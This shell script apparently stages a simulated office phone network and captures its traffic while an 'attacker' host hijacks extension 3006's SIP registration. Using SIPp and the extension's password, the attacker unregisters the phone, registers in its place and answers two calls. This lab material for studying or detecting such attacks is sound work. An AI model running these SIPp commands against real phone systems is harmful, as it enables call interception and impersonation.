# With the right password somebody outside removes the registration of 3006, registers a SIPp in its
# place and answers two calls, until the owner's phone registers again.
relocate example.com 5060 10.66.2 198.18.55 100.64.33
EXTENSIONS=(3001 3002 3003 3004 3005 3006)
EXISTING='^30[0-1][0-9]$'
WEAK=none
REGISTER_SECONDS=110
open_office -A WITH_ROAMING
add_attacker thief 100.64.33.20
start_office_capture
keep_alive 17
office_day 217 115 18-68
story="Somebody outside removes the registration of 3006 with the right password, registers, and answers its calls."
at 16 attack A1-1 hijack:registration_hijack thief 5070 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$parts/sipp/unregister-all.xml" -nostdin -m 1 -l 1 \
    -i 100.64.33.20 -p 5070 -s 3006 -au 3006 -ap secret3006 10.66.2.1:5060
at 18 attack A1-2 hijack:registration_hijack thief 5072 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$parts/sipp/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 100.64.33.20 -p 5072 -s 3006 -au 3006 -ap secret3006 10.66.2.1:5060
at 20 attack A1-3 hijack:registration_hijack thief 5072 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$parts/sipp/callee.xml" -nostdin -m 2 -l 2 -key parameters "" \
    -i 100.64.33.20 -mi 100.64.33.20 -p 5072 -s 3006
for second in 26 47; do
    at "$second" tell 3003 dial "sip:3006@$DOMAIN"
    at "$((second + 14))" tell 3003 hangup
done
play
wait_for A1-1 A1-2 A1-3
close_office
